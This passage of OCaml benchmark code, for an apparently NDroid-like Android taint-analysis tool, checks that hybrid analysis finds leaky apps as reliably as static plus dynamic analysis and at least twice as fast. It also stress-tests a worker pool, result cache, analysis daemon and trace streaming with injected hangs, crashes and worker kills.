     identical verdicts at >= 2x speed.  Both sweeps run inline (no cache,
     no forked pool): the pool's fork/IPC cost is mode-independent and at
     this per-app grain it would drown the quantity under test, the
     serial-equivalent analysis wall clock. *)
  Printf.printf "\nhybrid vs both on the same %d-app slice...\n%!" slice;
  let run_mode mode =
    let tasks = Task.of_market_slice ~mode params in
    let t0 = now () in
    let reports = Pool.run_inline tasks in
    (reports, now () -. t0)
  in
  let both_reports, both_dt = run_mode Task.Both in
  let hybrid_reports, hybrid_dt = run_mode Task.Hybrid in
  let verdict_diffs = ref 0 in
  Array.iteri
    (fun i (r : Verdict.report) ->
      if
        Verdict.flagged r.Verdict.r_verdict
        <> Verdict.flagged both_reports.(i).Verdict.r_verdict
      then incr verdict_diffs)
    hybrid_reports;
  let count_flagged reports =
    Array.fold_left
      (fun acc (r : Verdict.report) ->
        if Verdict.flagged r.Verdict.r_verdict then acc + 1 else acc)
      0 reports
  in
  let hybrid_flagged = count_flagged hybrid_reports in
  let hybrid_missed = ref 0 in
  Seq.iteri
    (fun i model ->
      if
        Market.app_is_leaky model
        && not (Verdict.flagged hybrid_reports.(i).Verdict.r_verdict)
      then incr hybrid_missed)
    (Market.generate params);
  let _, _, focused_methods, skipped_bytecodes =
    Pool.counters_of_reports hybrid_reports
  in
  let speedup = both_dt /. hybrid_dt in
  (* the bundled detection apps must all still be caught when the dynamic
     pass runs gated on the static focus set *)
  let bundled_tasks mode =
    List.mapi
      (fun i ((app : H.app), _, _, _) ->
        { Task.t_id = i; Task.t_subject = Task.Bundled app.H.app_name;
          Task.t_mode = mode; Task.t_fault = None })
      rows
  in
  let bundled_hybrid = Pool.run_inline (bundled_tasks Task.Hybrid) in
  let bundled_expected = List.length (List.filter (fun (_, d, _, _) -> d) rows) in
  let bundled_detected =
    List.fold_left
      (fun acc (i, (_, dyn, _, _)) ->
        if dyn && Verdict.flagged bundled_hybrid.(i).Verdict.r_verdict then
          acc + 1
        else acc)
      0
      (List.mapi (fun i row -> (i, row)) rows)
  in
  Printf.printf "both:   %d apps in %.2fs\n" !total both_dt;
  Printf.printf "hybrid: %d apps in %.2fs (%.1fx)\n" !total hybrid_dt speedup;
  Printf.printf
    "hybrid flagged: %d | verdict diffs vs both: %d | leaky missed: %d\n"
    hybrid_flagged !verdict_diffs !hybrid_missed;
  Printf.printf "hybrid bundled detections: %d/%d\n" bundled_detected
    bundled_expected;
  Printf.printf "focused methods: %d | skipped bytecodes: %d\n" focused_methods
    skipped_bytecodes;
  let oc = open_out "BENCH_static.json" in
  Printf.fprintf oc "{\n  \"experiment\": \"static\",\n";
  Printf.fprintf oc "  \"apps\": [\n";
  List.iteri
    (fun i ((app : H.app), dyn, st, (v : St_analyzer.verdict)) ->
      Printf.fprintf oc
        "    {\"name\": %S, \"dynamic\": %b, \"static\": %b, \"flows\": %d, \
         \"jni_sites\": %d, \"native_insns\": %d, \"rounds\": %d}%s\n"
        app.H.app_name dyn st
        (List.length (St_analyzer.flows v))
        v.St_analyzer.v_jni_sites v.St_analyzer.v_native_insns
        v.St_analyzer.v_rounds
        (if i = List.length rows - 1 then "" else ","))
    rows;
  Printf.fprintf oc "  ],\n";
  Printf.fprintf oc "  \"static_false_negatives\": %d,\n"
    (List.length false_negs);
  Printf.fprintf oc "  \"static_only_detections\": %d,\n"
    (List.length static_only);
  Printf.fprintf oc "  \"evasion_app_flagged\": %b,\n" evasion_flagged;
  Printf.fprintf oc "  \"market\": {\n";
  Printf.fprintf oc "    \"slice\": %d,\n" !total;
  Printf.fprintf oc "    \"jobs\": %d,\n" jobs;
  Printf.fprintf oc "    \"flagged\": %d,\n" !flagged;
  Printf.fprintf oc "    \"pruned\": %d,\n" pruned;
  Printf.fprintf oc "    \"pruned_fraction\": %.4f,\n" pruned_frac;
  Printf.fprintf oc "    \"known_leaky\": %d,\n" !leaky_total;
  Printf.fprintf oc "    \"leaky_flagged\": %d,\n" !leaky_flagged;
  Printf.fprintf oc "    \"leaky_missed\": %d,\n" market_fn;
  Printf.fprintf oc "    \"seconds\": %.4f,\n" dt;
  Printf.fprintf oc "    \"apps_per_sec\": %.1f\n" apps_per_sec;
  Printf.fprintf oc "  },\n";
  Printf.fprintf oc "  \"hybrid\": {\n";
  Printf.fprintf oc "    \"slice\": %d,\n" !total;
  Printf.fprintf oc "    \"both_seconds\": %.4f,\n" both_dt;
  Printf.fprintf oc "    \"hybrid_seconds\": %.4f,\n" hybrid_dt;
  Printf.fprintf oc "    \"speedup\": %.2f,\n" speedup;
  Printf.fprintf oc "    \"flagged\": %d,\n" hybrid_flagged;
  Printf.fprintf oc "    \"verdict_diffs\": %d,\n" !verdict_diffs;
  Printf.fprintf oc "    \"leaky_missed\": %d,\n" !hybrid_missed;
  Printf.fprintf oc "    \"bundled_detections\": %d,\n" bundled_detected;
  Printf.fprintf oc "    \"bundled_expected\": %d,\n" bundled_expected;
  Printf.fprintf oc "    \"focused_methods\": %d,\n" focused_methods;
  Printf.fprintf oc "    \"skipped_bytecodes\": %d\n" skipped_bytecodes;
  Printf.fprintf oc "  }\n}\n";
  close_out oc;
  Printf.printf "wrote BENCH_static.json\n";
  if false_negs <> [] then begin
    List.iter
      (fun ((app : H.app), _, _, v) ->
        Printf.eprintf "STATIC FALSE NEGATIVE: %s (expected sink %S)\n"
          app.H.app_name app.H.expected_sink;
        Format.eprintf "%a@." St_report.pp_verdict v)
      false_negs;
    exit 1
  end;
  if not evasion_flagged then begin
    Printf.eprintf
      "FAIL: control-flow evasion app not statically flagged (the static \
       pass exists to cover exactly this dynamic blind spot)\n";
    exit 1
  end;
  if market_fn > 0 then begin
    Printf.eprintf "FAIL: %d known-leaky market apps statically missed\n"
      market_fn;
    exit 1
  end;
  if !verdict_diffs > 0 then begin
    Printf.eprintf "FAIL: hybrid and both disagree on %d market verdicts\n"
      !verdict_diffs;
    exit 1
  end;
  if !hybrid_missed > 0 then begin
    Printf.eprintf "FAIL: hybrid missed %d known-leaky market apps\n"
      !hybrid_missed;
    exit 1
  end;
  if bundled_detected <> bundled_expected then begin
    Printf.eprintf "FAIL: hybrid caught %d/%d bundled detections\n"
      bundled_detected bundled_expected;
    exit 1
  end;
  if speedup < 2.0 then begin
    Printf.eprintf
      "FAIL: hybrid only %.2fx faster than both on the market slice \
       (need >= 2x)\n"
      speedup;
    exit 1
  end

(* --------------------------------------------------------- PIPELINE -- *)

(* The sharded sweep's value on a market corpus is not CPU parallelism (a
   single app analyzes in microseconds) but straggler isolation: one
   pathological APK that hangs or kills its analyzer must cost one per-app
   budget on one worker, not wedge the whole sweep.  At --jobs 1 the
   injected stragglers' budgets serialize; at --jobs N they overlap, which
   is where the wall-clock speedup below comes from — on any machine,
   including this repo's single-core CI runners. *)

let rm_rf_dir dir =
  match Sys.readdir dir with
  | exception Sys_error _ -> ()
  | names ->
    Array.iter (fun n -> try Sys.remove (Filename.concat dir n) with Sys_error _ -> ()) names;
    (try Unix.rmdir dir with Unix.Unix_error _ -> ())

let pipeline () =
  section
    "PIPELINE: sharded market sweep - straggler isolation, crash recovery, \
     caching";
  let slice = 1200 in
  let timeout = 0.4 in
  let jobs_n = max 2 !jobs_flag in
  let params = Market.scaled slice in
  let clean_tasks = Task.of_market_slice params in
  (* deterministic pathology: the same apps hang/crash in every run, so
     jobs=1 and jobs=N must still produce bit-identical verdicts *)
  let faulted_tasks =
    List.map
      (fun (t : Task.t) ->
        let fault =
          if t.Task.t_id mod 149 = 7 then Some Task.Hang
          else if t.Task.t_id mod 200 = 13 then Some Task.Crash
          else None
        in
        { t with Task.t_fault = fault })
      clean_tasks
  in
  let count f = List.length (List.filter f faulted_tasks) in
  let hangs = count (fun t -> t.Task.t_fault = Some Task.Hang) in
  let crashes = count (fun t -> t.Task.t_fault = Some Task.Crash) in
  Printf.printf
    "slice: %d apps, %d injected hangs, %d injected crashes, %.1fs per-app \
     budget\n%!"
    slice hangs crashes timeout;
  let run ?cache ?kill_worker_after ~jobs tasks =
    Pool.run (Pool.config ~jobs ~timeout ?cache ?kill_worker_after ()) tasks
  in
  let r1, s1 = run ~jobs:1 faulted_tasks in
  Printf.printf "--jobs 1: %6.2fs wall  (%d timeouts, %d crashed, %d respawns)\n%!"
    s1.Pool.s_wall s1.Pool.s_timeouts s1.Pool.s_crashed s1.Pool.s_respawns;
  let rn, sn = run ~jobs:jobs_n faulted_tasks in
  Printf.printf
    "--jobs %d: %6.2fs wall  (%d timeouts, %d crashed, %d respawns, %d steals)\n%!"
    jobs_n sn.Pool.s_wall sn.Pool.s_timeouts sn.Pool.s_crashed
    sn.Pool.s_respawns sn.Pool.s_steals;
  let json_of r = Rj.to_string (Verdict.reports_to_json (Array.to_list r)) in
  let identical = String.equal (json_of r1) (json_of rn) in
  let speedup = s1.Pool.s_wall /. sn.Pool.s_wall in
  Printf.printf "verdicts bit-identical across --jobs: %b\n" identical;
  Printf.printf "wall-clock speedup from straggler overlap: %.2fx\n%!" speedup;
  (* fault injection from the outside: SIGKILL a worker mid-sweep and prove
     the pool neither hangs nor loses a result *)
  let rk, sk = run ~jobs:jobs_n ~kill_worker_after:100 clean_tasks in
  let lost =
    Array.to_list rk |> List.filter (fun r -> r.Verdict.r_app = "?")
    |> List.length
  in
  Printf.printf
    "injected worker kill: %d killed, %d/%d results, %d lost, %d collateral \
     crash verdicts, %d respawns\n%!"
    sk.Pool.s_injected_kills (Array.length rk) slice lost sk.Pool.s_crashed
    sk.Pool.s_respawns;
  (* result cache: cold sweep populates, warm sweep answers from disk *)
  let cache_dir =
    Filename.concat (Filename.get_temp_dir_name ())
      ("ndroid-bench-cache-" ^ string_of_int (Unix.getpid ()))
  in
  rm_rf_dir cache_dir;
  let cold = P_cache.create ~dir:cache_dir in
  let rc, sc = run ~jobs:jobs_n ~cache:cold clean_tasks in
  let warm = P_cache.create ~dir:cache_dir in
  let rw, sw = run ~jobs:jobs_n ~cache:warm clean_tasks in
  let cache_identical = String.equal (json_of rc) (json_of rw) in
  Printf.printf
    "cache: cold %.2fs (%d hits) -> warm %.2fs (%d hits, %d forked workers)\n%!"
    sc.Pool.s_wall sc.Pool.s_cache_hits sw.Pool.s_wall sw.Pool.s_cache_hits
    sw.Pool.s_from_workers;
  rm_rf_dir cache_dir;
  (* honesty row: on a clean corpus this machine gains nothing from more
     jobs (single core, microsecond apps) - the speedup above is from
     overlapping stragglers, not from CPU parallelism *)
  let _, c1 = run ~jobs:1 clean_tasks in
  let _, cn = run ~jobs:jobs_n clean_tasks in
  Printf.printf "clean corpus (no stragglers): --jobs 1 %.2fs vs --jobs %d %.2fs\n%!"
    c1.Pool.s_wall jobs_n cn.Pool.s_wall;
  (* ---- the service: daemon cold/warm throughput, parity, overload ----
     Both mode makes per-app work big enough (~ms) that cold requests
     measure analysis, not IPC; the warm pass then shows what the
     persistent daemon buys — the same slice answered from the
     in-process warm layer without forking or re-analysis. *)
  let serve_tasks = Task.of_market_slice ~mode:Task.Both params in
  let inline_serve = Pool.run_inline serve_tasks in
  let socket =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "ndroid-bench-%d.sock" (Unix.getpid ()))
  in
  let with_daemon ?engine ?stream_buf ~depth f =
    match Unix.fork () with
    | 0 ->
      (try
         ignore
           (Server.serve
              (Server.config ~socket ~jobs:jobs_n ~depth ~max_clients:4
                 ?engine ?stream_buf ()))
       with _ -> ());
      Unix._exit 0
    | pid ->
      Fun.protect
        ~finally:(fun () ->
          (try Unix.kill pid Sys.sigterm with Unix.Unix_error _ -> ());
          ignore (Unix.waitpid [] pid);
          try Unix.unlink socket with Unix.Unix_error _ -> ())
        f
  in
  let connect () =
    match Proto.Client.connect ~retry_for:10.0 socket with
    | Ok c ->
      Unix.setsockopt_float (Proto.Client.fd c) Unix.SO_RCVTIMEO 120.0;
      c
    | Error e -> failwith ("serve bench: " ^ e)
  in
  let submit c (t : Task.t) =
    Proto.Client.send c
      (Proto.Submit
         { sb_req = t.Task.t_id; sb_subject = t.Task.t_subject;
           sb_mode = t.Task.t_mode; sb_deadline = None;
           sb_fault = t.Task.t_fault; sb_trace = false })
  in
  (* pipelined sweep: all submits up front, then one terminal per request.
     The loop only terminates when every request is answered — a stalled
     or lost request trips the socket timeout and fails the bench. *)
  let sweep c tasks =
    let n = List.length tasks in
    let t0 = now () in
    List.iter (submit c) tasks;
    let reports = Array.make n None in
    let cached = ref 0 and sheds = ref 0 in
    let rec loop remaining =
      if remaining > 0 then
        match Proto.Client.recv c with
        | Error e -> failwith ("serve bench: " ^ e)
        | Ok (Proto.Verdict v) ->
          reports.(v.vd_req) <- Some v.vd_report;
          if v.vd_cached then incr cached;
          loop (remaining - 1)
        | Ok (Proto.Shed _) ->
          incr sheds;
          loop (remaining - 1)
        | Ok (Proto.Progress _) -> loop remaining
        | Ok _ -> failwith "serve bench: unexpected message"
    in
    loop n;
    (reports, !cached, !sheds, now () -. t0)
  in
  let ( (_, cold_cached, cold_shed, dt_cold),
        (warm_reports, warm_cached, warm_shed, dt_warm) ) =
    with_daemon ~depth:(2 * slice) (fun () ->
        let c = connect () in
        let cold = sweep c serve_tasks in
        let warm = sweep c serve_tasks in
        Proto.Client.close c;
        (cold, warm))
  in
  let serve_json reports =
    Rj.to_string
      (Verdict.reports_to_json
         (Array.to_list reports |> List.filter_map (fun r -> r)))
  in
  let serve_identical =
    String.equal (json_of inline_serve) (serve_json warm_reports)
  in
  let cold_rps = float_of_int slice /. dt_cold in
  let warm_rps = float_of_int slice /. dt_warm in
  let warm_cold_ratio = dt_cold /. dt_warm in
  Printf.printf
    "serve (both mode): cold %.2fs (%.0f req/s, %d cached) -> warm %.2fs \
     (%.0f req/s, %d cached), ratio %.1fx\n%!"
    dt_cold cold_rps cold_cached dt_warm warm_rps warm_cached warm_cold_ratio;
  Printf.printf "serve verdicts bit-identical to batch analyze: %b\n%!"
    serve_identical;
  (* overload: a shallow queue and a flood of uncacheable slow requests.
     The contract is shed-don't-stall: every request gets its terminal
     response (the sweep loop completes), the excess gets Shed. *)
  let overload_tasks =
    List.map
      (fun (t : Task.t) -> { t with Task.t_fault = Some (Task.Sleep 0.0005) })
      serve_tasks
  in
  let _, _, overload_shed, dt_overload =
    with_daemon ~depth:64 (fun () ->
        let c = connect () in
        let r = sweep c overload_tasks in
        Proto.Client.close c;
        r)
  in
  Printf.printf
    "serve overload (depth 64): %d/%d shed in %.2fs, every request answered\n%!"
    overload_shed slice dt_overload;
  (* ---- single-flight: a herd of identical requests costs one analysis.
     A domain-engine daemon (forked as a child, so the parent may still
     fork below) takes 32 pipelined submits of one digest: the first
     queues, the rest coalesce onto it, and the one verdict fans out. *)
  let sf_n = 32 in
  let sf_task = List.hd serve_tasks in
  let sf_coalesced, sf_cached, sf_identical =
    with_daemon ~engine:Engine.Domains ~depth:64 (fun () ->
        let c = connect () in
        for i = 0 to sf_n - 1 do
          Proto.Client.send c
            (Proto.Submit
               { sb_req = i; sb_subject = sf_task.Task.t_subject;
                 sb_mode = sf_task.Task.t_mode; sb_deadline = None;
                 sb_fault = None; sb_trace = false })
        done;
        let coalesced = ref 0 and cached = ref 0 in
        let verdicts = ref [] in
        let rec loop remaining =
          if remaining > 0 then
            match Proto.Client.recv c with
            | Error e -> failwith ("single-flight bench: " ^ e)
            | Ok (Proto.Verdict v) ->
              verdicts :=
                Rj.to_string (Verdict.report_to_json v.vd_report)
                :: !verdicts;
              if v.vd_cached then incr cached;
              loop (remaining - 1)
            | Ok (Proto.Progress p) ->
              if p.pg_state = "coalesced" then incr coalesced;
              loop remaining
            | Ok (Proto.Shed s) ->
              failwith ("single-flight bench: shed: " ^ s.sh_reason)
            | Ok _ -> failwith "single-flight bench: unexpected message"
        in
        loop sf_n;
        Proto.Client.close c;
        let identical =
          match !verdicts with
          | [] -> false
          | v :: rest -> List.for_all (String.equal v) rest
        in
        (!coalesced, !cached, identical))
  in
  Printf.printf
    "single-flight (domains daemon): %d identical submits -> %d coalesced, \
     %d cached, verdicts identical: %b\n%!"
    sf_n sf_coalesced sf_cached sf_identical;
  (* ---- streaming: a live subscriber must not slow the sweep ----
     Fresh daemon per run (a cold warm layer every time), best of two to
     damp scheduler noise.  The subscriber is a forked child draining
     every frame to a JSONL file, so the daemon pays only the fan-out —
     the thing being measured.  The wedged variant never reads behind a
     deliberately tiny outbound bound: frames are shed, verdicts are
     not.  Market apps declare native classes but their synthetic
     [onCreate] never calls them, so the slice alone streams nothing;
     a bundled-hybrid suffix (present in every run, subscribed or not,
     keeping the comparison fair) supplies real JNI crossings for the
     subscriber to drain. *)
  let stream_extras =
    List.mapi
      (fun k name ->
        { Task.t_id = slice + k; Task.t_subject = Task.Bundled name;
          Task.t_mode = Task.Hybrid; Task.t_fault = None })
      [ "case1"; "case2"; "QQPhoneBook3.5" ]
  in
  let stream_tasks = serve_tasks @ stream_extras in
  let inline_stream = Pool.run_inline stream_tasks in
  let stream_jsonl =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "ndroid-bench-stream-%d.jsonl" (Unix.getpid ()))
  in
  let spawn_subscriber ~draining =
    match Unix.fork () with
    | 0 ->
      (try
         let c = connect () in
         Proto.Client.send c
           (Proto.Subscribe { su_cats = []; su_app = None; su_window = 0 });
         if draining then begin
           let oc = open_out stream_jsonl in
           let rec go () =
             match Proto.Client.recv c with
             | Error _ -> ()  (* daemon shut down: we are done *)
             | Ok (Proto.Trace tc) ->
               List.iter
                 (fun ev ->
                   output_string oc (Rj.to_string (Stream.event_json ev));
                   output_char oc '\n')
                 tc.Proto.tc_events;
               go ()
             | Ok _ -> go ()
           in
           go ();
           close_out oc
         end
         else Unix.sleep 3600 (* the deliberately wedged subscriber *)
       with _ -> ());
      Unix._exit 0
    | pid -> pid
  in
  let stream_sweep ?stream_buf subscriber =
    let result, sub =
      with_daemon ?stream_buf ~depth:(2 * slice) (fun () ->
          let sub =
            match subscriber with
            | `None -> None
            | `Draining -> Some (spawn_subscriber ~draining:true)
            | `Wedged -> Some (spawn_subscriber ~draining:false)
          in
          (* let the Subscribe frame land before the first dispatch, so
             every task of the sweep runs tapped *)
          if sub <> None then Unix.sleepf 0.3;
          let c = connect () in
          let reports, _, sheds, dt = sweep c stream_tasks in
          Proto.Client.close c;
          ((reports, sheds, dt), sub))
    in
    (* the daemon is gone: a draining child exits on EOF, a wedged one
       needs the kill *)
    (match sub with
     | Some pid ->
       if subscriber = `Wedged then
         (try Unix.kill pid Sys.sigkill with Unix.Unix_error _ -> ());
       ignore (Unix.waitpid [] pid)
     | None -> ());
    result
  in
  let min_by_dt (ra, sa, da) (rb, sb, db) =
    if da <= db then (ra, sa, da) else (rb, sb, db)
  in
  let unsub_r, unsub_shed, dt_unsub =
    min_by_dt (stream_sweep `None) (stream_sweep `None)
  in
  let sub_r, sub_shed, dt_sub =
    min_by_dt (stream_sweep `Draining) (stream_sweep `Draining)
  in
  let slow_r, slow_shed, dt_slow = stream_sweep ~stream_buf:256 `Wedged in
  let lost_of reports =
    Array.fold_left (fun n r -> if r = None then n + 1 else n) 0 reports
  in
  let line_has affix line =
    let n = String.length affix and m = String.length line in
    let rec at i = i + n <= m && (String.sub line i n = affix || at (i + 1)) in
    at 0
  in
  let subscriber_events, subscriber_jni =
    match open_in stream_jsonl with
    | exception Sys_error _ -> (0, 0)
    | ic ->
      let n = ref 0 and jni = ref 0 in
      (try
         while true do
           let line = input_line ic in
           incr n;
           if line_has "\"jni_begin\"" line then incr jni
         done
       with End_of_file -> ());
      close_in ic;
      (!n, !jni)
  in
  (try Unix.unlink stream_jsonl with Unix.Unix_error _ -> ());
  let stream_identical =
    String.equal (json_of inline_stream) (serve_json unsub_r)
    && String.equal (json_of inline_stream) (serve_json sub_r)
  in
  let slow_identical =
    String.equal (json_of inline_stream) (serve_json slow_r)
  in
  let stream_lost = lost_of unsub_r + lost_of sub_r + (unsub_shed + sub_shed) in
  let slow_lost = lost_of slow_r + slow_shed in
  let overhead_ratio = dt_sub /. dt_unsub in
  Printf.printf
    "stream (both mode, live subscriber): unsubscribed %.2fs -> subscribed \
     %.2fs (%.3fx), %d events drained (%d jni crossings), verdicts \
     bit-identical: %b\n%!"
    dt_unsub dt_sub overhead_ratio subscriber_events subscriber_jni
    stream_identical;
  Printf.printf
    "stream (wedged subscriber, 256-byte bound): %.2fs, every verdict \
     answered: %b, bit-identical: %b\n%!"
    dt_slow (slow_lost = 0) slow_identical;
  (* ---- engines: fork vs domains on the clean static slice.  The cold
     rows carry no cache, so the gap is purely the per-task fork + wire
     tax the domain engine retires; the warm rows replay the same slice
     against a populated disk cache (neither engine dispatches).  Every
     fork in this bench happens above this comment: once the domain rows
     spawn, this process can never fork again (OCaml 5 forbids it). *)
  let engine_cache_dir =
    Filename.concat (Filename.get_temp_dir_name ())
      ("ndroid-bench-engines-" ^ string_of_int (Unix.getpid ()))
  in
  rm_rf_dir engine_cache_dir;
  let e_run ?cache engine =
    Pool.run (Pool.config ~jobs:jobs_n ?cache ~engine ()) clean_tasks
  in
  let ef_cold_r, ef_cold = e_run Engine.Fork in
  let _ = e_run ~cache:(P_cache.create ~dir:engine_cache_dir) Engine.Fork in
  let _, ef_warm =
    e_run ~cache:(P_cache.create ~dir:engine_cache_dir) Engine.Fork
  in
  (* no fork below this line *)
  let ed_cold_r, ed_cold = e_run Engine.Domains in
  let _, ed_warm =
    e_run ~cache:(P_cache.create ~dir:engine_cache_dir) Engine.Domains
  in
  rm_rf_dir engine_cache_dir;
  let engines_identical = String.equal (json_of ef_cold_r) (json_of ed_cold_r) in
  let engines_speedup = ef_cold.Pool.s_wall /. ed_cold.Pool.s_wall in
  Printf.printf
    "engines (static, %d apps, %d jobs):\n\
    \  fork    cold %6.3fs (fork %.3fs, wire %.3fs)  warm %6.3fs\n\
    \  domains cold %6.3fs (fork %.3fs, wire %.3fs)  warm %6.3fs\n\
     cold speedup from killing the fork+wire tax: %.2fx\n\
     verdicts bit-identical across engines: %b\n%!"
    slice jobs_n ef_cold.Pool.s_wall ef_cold.Pool.s_fork ef_cold.Pool.s_wire
    ef_warm.Pool.s_wall ed_cold.Pool.s_wall ed_cold.Pool.s_fork
    ed_cold.Pool.s_wire ed_warm.Pool.s_wall engines_speedup engines_identical;
  let stats_json (s : Pool.stats) =
    Rj.Obj
      [ ("wall_seconds", Rj.Float s.Pool.s_wall);
        ("engine", Rj.Str s.Pool.s_engine);
        ("from_workers", Rj.Int s.Pool.s_from_workers);
        ("cache_hits", Rj.Int s.Pool.s_cache_hits);
        ("crashed", Rj.Int s.Pool.s_crashed);
        ("timeouts", Rj.Int s.Pool.s_timeouts);
        ("respawns", Rj.Int s.Pool.s_respawns);
        ("steals", Rj.Int s.Pool.s_steals);
        ("shed", Rj.Int s.Pool.s_shed);
        ("injected_kills", Rj.Int s.Pool.s_injected_kills);
        ("evictions", Rj.Int s.Pool.s_evictions);
        ("cache_pass_seconds", Rj.Float s.Pool.s_cache_pass);
        ("digest_seconds", Rj.Float s.Pool.s_digest);
        ("fork_seconds", Rj.Float s.Pool.s_fork);
        ("wire_seconds", Rj.Float s.Pool.s_wire);
        ("collect_seconds", Rj.Float s.Pool.s_collect);
        ("analyze_cpu_seconds", Rj.Float s.Pool.s_analyze_cpu);
        ("bytecodes", Rj.Int s.Pool.s_bytecodes);
        ("bytecodes_per_sec",
         Rj.Float
           (if s.Pool.s_analyze_cpu > 0.0 then
              float_of_int s.Pool.s_bytecodes /. s.Pool.s_analyze_cpu
            else 0.0));
        ("jni_crossings", Rj.Int s.Pool.s_jni_crossings);
        ("metrics", s.Pool.s_metrics) ]
  in
  let doc =
    Rj.Obj
      [ ("experiment", Rj.Str "pipeline");
        ("slice", Rj.Int slice);
        ("jobs", Rj.Int jobs_n);
        ("timeout_seconds", Rj.Float timeout);
        ("injected_hangs", Rj.Int hangs);
        ("injected_crashes", Rj.Int crashes);
        ("straggler_sweep",
         Rj.Obj
           [ ("jobs1", stats_json s1);
             ("jobsN", stats_json sn);
             ("speedup", Rj.Float speedup);
             ("bit_identical", Rj.Bool identical) ]);
        ("worker_kill",
         Rj.Obj
           [ ("kill_after", Rj.Int 100);
             ("results", Rj.Int (Array.length rk));
             ("lost", Rj.Int lost);
             ("stats", stats_json sk) ]);
        ("cache",
         Rj.Obj
           [ ("cold", stats_json sc);
             ("warm", stats_json sw);
             ("bit_identical", Rj.Bool cache_identical) ]);
        ("clean_corpus",
         Rj.Obj [ ("jobs1", stats_json c1); ("jobsN", stats_json cn) ]);
        ("serve",
         Rj.Obj
           [ ("mode", Rj.Str "both");
             ("requests", Rj.Int slice);
             ("cold",
              Rj.Obj
                [ ("seconds", Rj.Float dt_cold);
                  ("requests_per_sec", Rj.Float cold_rps);
                  ("cached", Rj.Int cold_cached);
                  ("shed", Rj.Int cold_shed) ]);
             ("warm",
              Rj.Obj
                [ ("seconds", Rj.Float dt_warm);
                  ("requests_per_sec", Rj.Float warm_rps);
                  ("cached", Rj.Int warm_cached);
                  ("shed", Rj.Int warm_shed) ]);
             ("warm_cold_ratio", Rj.Float warm_cold_ratio);
             ("bit_identical", Rj.Bool serve_identical);
             ("overload",
              Rj.Obj
                [ ("depth", Rj.Int 64);
                  ("requests", Rj.Int slice);
                  ("seconds", Rj.Float dt_overload);
                  ("shed", Rj.Int overload_shed);
                  ("lost", Rj.Int 0) ]) ]);
        ("single_flight",
         Rj.Obj
           [ ("engine", Rj.Str "domains");
             ("requests", Rj.Int sf_n);
             ("coalesced", Rj.Int sf_coalesced);
             ("cached", Rj.Int sf_cached);
             ("identical", Rj.Bool sf_identical) ]);
        ("stream",
         Rj.Obj
           [ ("mode", Rj.Str "both");
             ("requests", Rj.Int (List.length stream_tasks));
             ("unsubscribed_seconds", Rj.Float dt_unsub);
             ("subscribed_seconds", Rj.Float dt_sub);
             ("overhead_ratio", Rj.Float overhead_ratio);
             ("subscriber_events", Rj.Int subscriber_events);
             ("subscriber_jni_crossings", Rj.Int subscriber_jni);
             ("bit_identical", Rj.Bool stream_identical);
             ("lost", Rj.Int stream_lost);
             ("slow_subscriber",
              Rj.Obj
                [ ("stream_buf", Rj.Int 256);
                  ("seconds", Rj.Float dt_slow);
                  ("bit_identical", Rj.Bool slow_identical);
                  ("lost", Rj.Int slow_lost) ]) ]);
        ("engines",
         Rj.Obj
           [ ("mode", Rj.Str "static");
             ("requests", Rj.Int slice);
             ("fork",
              Rj.Obj
                [ ("cold", stats_json ef_cold); ("warm", stats_json ef_warm) ]);
             ("domains",
              Rj.Obj
                [ ("cold", stats_json ed_cold); ("warm", stats_json ed_warm) ]);
             ("cold_speedup", Rj.Float engines_speedup);
             ("bit_identical", Rj.Bool engines_identical) ]) ]
  in
  let oc = open_out "BENCH_pipeline.json" in
  output_string oc (Rj.to_string_hum doc);
  output_string oc "\n";
  close_out oc;
  Printf.printf "wrote BENCH_pipeline.json\n";
  let fail msg =
    Printf.eprintf "FAIL: %s\n" msg;
    exit 1
  in
  if not identical then
    fail "verdicts differ between --jobs 1 and --jobs N";
  (* the acceptance bar: >= 2.5x at 4 jobs.  Two workers can at best halve
     the serialized straggler budgets, so scale the bar below that. *)
  let required = if jobs_n >= 4 then 2.5 else 1.5 in
  if speedup < required then
    fail
      (Printf.sprintf "straggler speedup %.2fx < %.1fx at %d jobs" speedup
         required jobs_n);
  if sk.Pool.s_injected_kills <> 1 then fail "worker kill was not injected";
  if lost > 0 then
    fail (Printf.sprintf "%d results lost after injected worker kill" lost);
  if Array.length rk <> slice then fail "missing results after worker kill";
  if sw.Pool.s_cache_hits <> slice then
    fail
      (Printf.sprintf "warm cache answered %d/%d from disk"
         sw.Pool.s_cache_hits slice);
  if not cache_identical then fail "cached reports differ from computed ones";
  (* the service bars *)
  if not serve_identical then
    fail "serve verdicts differ from batch analyze";
  if cold_shed + warm_shed > 0 then
    fail
      (Printf.sprintf "daemon shed %d requests at nominal load"
         (cold_shed + warm_shed));
  if warm_cached <> slice then
    fail
      (Printf.sprintf "warm serve answered %d/%d from the warm layer"
         warm_cached slice);
  if warm_rps < 1000.0 then
    fail
      (Printf.sprintf "warm serve throughput %.0f req/s < 1000 req/s"
         warm_rps);
  if warm_cold_ratio < 5.0 then
    fail
      (Printf.sprintf "warm/cold serve ratio %.1fx < 5x" warm_cold_ratio);
  if overload_shed = 0 then
    fail "overload run shed nothing (depth bound did not engage)";
  (* the engine bars *)
  if not engines_identical then
    fail "fork and domain engines produced different verdicts";
  if engines_speedup < 2.0 then
    fail
      (Printf.sprintf
         "domain engine cold speedup %.2fx < 2.0x over the forked engine"
         engines_speedup);
  if sf_coalesced = 0 then
    fail "single-flight coalesced nothing (identical submits each ran)";
  if not sf_identical then
    fail "single-flight verdicts differ across waiters";
  (* the streaming bars *)
  if not stream_identical then
    fail "live-subscribed sweep changed the verdicts";
  if stream_lost > 0 then
    fail
      (Printf.sprintf "%d analyses lost or shed under a live subscriber"
         stream_lost);
  if subscriber_events = 0 then
    fail "the draining subscriber saw no trace events";
  if overhead_ratio > 1.05 then
    fail
      (Printf.sprintf "live subscriber overhead %.3fx > 1.05x"
         overhead_ratio);
  if not slow_identical then
    fail "wedged subscriber changed the verdicts";
  if slow_lost > 0 then
    fail
      (Printf.sprintf "%d analyses lost or shed behind a wedged subscriber"
         slow_lost)

(* ------------------------------------------------- Bechamel micro-suite -- *)

let micro () =
  section "Bechamel micro-benchmarks (one per table/figure)";
  let open Bechamel in
  let scaled = Market.scaled 4000 in
  let e_engine = Taint_engine.create () in
  let e_cpu = Cpu.create () in
  Cpu.set_reg e_cpu 1 0x5000;
  let insn = Insn.add 0 1 (Insn.Reg 2) in
  let tests =
    [ Test.make ~name:"tableI.case1'.detection.ndroid"
        (Staged.stage (fun () ->
             let device = H.boot Cases.case1' in
